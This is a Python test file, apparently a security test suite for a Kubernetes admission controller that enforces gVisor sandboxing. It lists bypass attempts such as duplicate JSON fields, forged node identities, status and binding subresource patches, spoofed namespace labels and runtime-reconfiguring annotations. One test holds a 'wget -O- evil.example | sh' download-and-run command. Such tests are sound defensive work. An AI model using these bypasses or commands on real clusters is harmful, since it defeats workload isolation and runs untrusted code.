"""Ways round the gate by how a request is written, by whom it is sent, and by other doors to a pod.

``trudy`` may write what roles of people should not give: the status of pods and Namespaces, the
finalizers of Namespaces, and bindings, as a scheduler of one's own needs them.
"""

from __future__ import annotations

import json

from tests.attacks.table import (
    CREATE,
    EXEMPTING,
    OLDER,
    SANDBOXED,
    Attack,
    By,
    annotated,
    changing,
    creating,
    pod,
)

_POST = ("create", "--raw", "/api/v1/namespaces/{ns}/pods", "-f", "-")
_REFUSED = "RuntimeClass runc is not allowed"
_RECONFIGURES = "reconfigures the sandbox and is not allowed"
_CHOSEN = "annotation runtimegate.dev/default-runtime-class of namespace exempt-attack decides"
_CHOOSING = json.dumps(
    {"metadata": {"annotations": {"runtimegate.dev/default-runtime-class": "runc"}}}
)
_AGENT = "registry.example/vault-agent:1"


def posted(name: str, spec: str, by: By, says: str = "", **fields: str | None) -> Attack:
    """A pod as bytes, which kubectl would not write so; ``spec`` goes into its spec."""
    text = (
        '{"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "attack"}, "spec": '
        '{"containers": [{"name": "main", "image": "nginx:1.31"}], %s}}'
    )
    namespace, left = fields.get("namespace") or SANDBOXED, fields.get("left")
    return Attack(
        name=name, steps=(_POST,), stdin=(text % spec,), by=by, says=says,
        namespace=namespace, left=left,
    )  # fmt: skip


WRITTEN: tuple[Attack, ...] = (
    posted("class-named-twice", '"runtimeClassName": "gvisor", "runtimeClassName": "runc"', By.GATE, _REFUSED),
    posted("class-named-twice-the-good-one-last", '"runtimeClassName": "runc", "runtimeClassName": "gvisor"', By.ASSIGNED, left="gvisor"),
    posted("field-in-other-capitals", '"RuntimeClassName": "runc"', By.ASSIGNED, left="gvisor"),
    posted("number-beyond-64-bits", '"terminationGracePeriodSeconds": 99999999999999999999, "runtimeClassName": "runc"', By.API, "cannot unmarshal number"),
    posted("two-service-accounts", '"serviceAccount": "node-agent", "serviceAccountName": "default", "runtimeClassName": "runc"', By.GATE, _REFUSED, namespace=EXEMPTING),
    creating("scheduling-gate", pod({"schedulingGates": [{"name": "example.com/wait"}], "runtimeClassName": "runc"}), By.GATE, _REFUSED),
    creating("pod-for-linux", pod({"os": {"name": "linux"}, "runtimeClassName": "runc"}), By.GATE, _REFUSED),
    creating("user-namespace-of-its-own", pod({"hostUsers": False, "runtimeClassName": "runc"}), By.GATE, _REFUSED),
    changing("copy-by-debug", "debug", "-n", "{ns}", "attack", "--image=busybox", "--copy-to=copy", "--set-image=*=postgres:18", by=By.FINDING, says="runs postgresql badly"),
    changing("another-image-of-an-init-container", "patch", "-n", "{ns}", "pod", "attack", "--type=json", "-p", '[{"op": "replace", "path": "/spec/initContainers/0/image", "value": "postgres:18"}]', manifest=pod({"initContainers": [{"name": "first", "image": "nginx"}]}), by=By.FINDING, says="runs postgresql badly"),
)  # fmt: skip
"""Ways to write a pod otherwise."""

SENDERS: tuple[Attack, ...] = (
    creating("made-by-an-administrator", pod({"runtimeClassName": "runc"}), By.GATE, _REFUSED, user="admin"),
    creating("made-by-a-controller-of-the-cluster", pod({"runtimeClassName": "runc"}), By.GATE, _REFUSED, user="system:serviceaccount:kube-system:replicaset-controller"),
    creating("made-by-a-node-as-its-mirror-but-not-owned-by-it", pod({"nodeName": "worker-1", "runtimeClassName": "runc"}, metadata=annotated("kubernetes.io/config.mirror")), By.API, "with an owner reference set to itself", user="system:node:worker-1"),
    creating("made-by-a-name-like-a-node", pod({"nodeName": "worker-1", "runtimeClassName": "runc"}, metadata=annotated("kubernetes.io/config.mirror")), By.GATE, _REFUSED, user="system:nodes:worker-1"),
)  # fmt: skip
"""Ways to be somebody whom one might let pass."""

DOORS: tuple[Attack, ...] = (
    changing("sandbox-flag-by-a-status-that-one-may-write", "patch", "-n", "{ns}", "pod", "attack", "--subresource=status", "--type=merge", "-p", json.dumps({"metadata": annotated("dev.gvisor.flag.debug")}), by=By.GATE, says=_RECONFIGURES, user="trudy"),
    changing("sandbox-flag-without-a-value-by-a-status", "patch", "-n", "{ns}", "pod", "attack", "--subresource=status", "--type=merge", "-p", json.dumps({"metadata": annotated("dev.gvisor.flag.debug", "")}), by=By.GATE, says=_RECONFIGURES, user="trudy"),
    changing("sandbox-flag-by-a-binding", "create", "--raw", "/api/v1/namespaces/{ns}/pods/attack/binding", "-f", "-", body=json.dumps({"apiVersion": "v1", "kind": "Binding", "metadata": {"name": "attack", **annotated("dev.gvisor.flag.debug")}, "target": {"kind": "Node", "name": "worker-1"}}), by=By.GATE, says=_RECONFIGURES, user="trudy"),
    changing("sandbox-flag-by-a-binding-of-the-old-kind", "create", "--raw", "/api/v1/namespaces/{ns}/bindings", "-f", "-", body=json.dumps({"apiVersion": "v1", "kind": "Binding", "metadata": {"name": "attack", **annotated("devices.crio.io")}, "target": {"kind": "Node", "name": "worker-1"}}), by=By.GATE, says=_RECONFIGURES, user="trudy"),
    Attack(name="namespace-chooses-by-its-status", steps=(("patch", "namespace", "{ns}", "--subresource=status", "--type=merge", "-p", _CHOOSING),), by=By.GUARD, says=_CHOSEN, user="trudy", namespace=EXEMPTING),
    Attack(name="namespace-chooses-by-its-finalizers", steps=(("replace", "--raw", "/api/v1/namespaces/{ns}/finalize", "-f", "-"),), stdin=(json.dumps({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": EXEMPTING, **json.loads(_CHOOSING)["metadata"]}, "spec": {"finalizers": ["kubernetes"]}}),), by=By.GUARD, says=_CHOSEN, user="trudy", namespace=EXEMPTING),
    Attack(name="namespace-made-under-a-forged-name-label", steps=(("create", "-f", "-"),), stdin=(json.dumps({"apiVersion": "v1", "kind": "Namespace", "metadata": {"generateName": "exempt-", "labels": {"kubernetes.io/metadata.name": "kube-system"}, **json.loads(_CHOOSING)["metadata"]}}),), by=By.GUARD, says="decides on its runtime policy", user="trudy"),
    Attack(name="namespace-with-the-name-label-of-an-excluded-one", steps=(("label", "namespace", "{ns}", "kubernetes.io/metadata.name=kube-system", "--overwrite"), CREATE), stdin=(None, pod({"runtimeClassName": "runc"})), by=By.GATE, says=_REFUSED, user="trudy"),
    creating("annotation-cri-o-runtime-path", pod(metadata=annotated("platform-runtime-path.crio.io", "/usr/bin/crun")), By.GATE, _RECONFIGURES),
    creating("annotation-cri-o-seccomp-of-one-container", pod(metadata=annotated("seccomp-profile.crio.io/main", "unconfined")), By.GATE, _RECONFIGURES),
    creating("annotation-systemd-property", pod(metadata=annotated("org.systemd.property.ExecStartPre")), By.GATE, _RECONFIGURES),
    creating("annotation-of-another-sandbox", pod(metadata=annotated("io.kubernetes.cri.sandbox-id")), By.GATE, _RECONFIGURES),
)  # fmt: skip
"""Other doors to a pod and to its namespace, and more of what a runtime reads off a pod."""

EXEMPTED: tuple[Attack, ...] = (
    Attack(
        name="label-of-an-exemption-shed-before-debugging",
        steps=(
            CREATE,
            ("label", "-n", "{ns}", "pod", "attack", "app-"),
            ("debug", "-n", "{ns}", "attack", "--image=evil.example/anything:1", "-c", "debugger"),
        ),
        stdin=(pod({"runtimeClassName": "runc"}, image=_AGENT, metadata={"labels": {"app": "vault"}}),),
        by=By.GATE, says=_REFUSED, namespace=EXEMPTING, left="runc",
    ),
    creating("command-of-ones-own-in-an-exempt-image", pod({"runtimeClassName": "runc"}, image="registry.example/backup:1", container={"command": ["sh", "-c", "wget -O- evil.example | sh"]}), By.NOTHING, namespace=EXEMPTING, left="runc"),
    creating("volume-of-another-image-in-an-exempt-pod", pod({"runtimeClassName": "runc", "volumes": [{"name": "more", "image": {"reference": "evil.example/anything:1"}}]}, image="registry.example/backup:1", container={"command": ["/more/evil"], "volumeMounts": [{"name": "more", "mountPath": "/more"}]}), By.NOTHING, namespace=EXEMPTING, left="runc"),
    Attack(name="debug-container-in-a-pod-older-than-its-policy", steps=(("debug", "-n", "{ns}", "older", "--image=evil.example/anything:1"),), by=By.NOTHING, namespace=OLDER, left="runc"),
)  # fmt: skip
"""More ways to use what is exempt, or was there before the policy."""

MORE: tuple[Attack, ...] = (*WRITTEN, *SENDERS, *DOORS, *EXEMPTED)
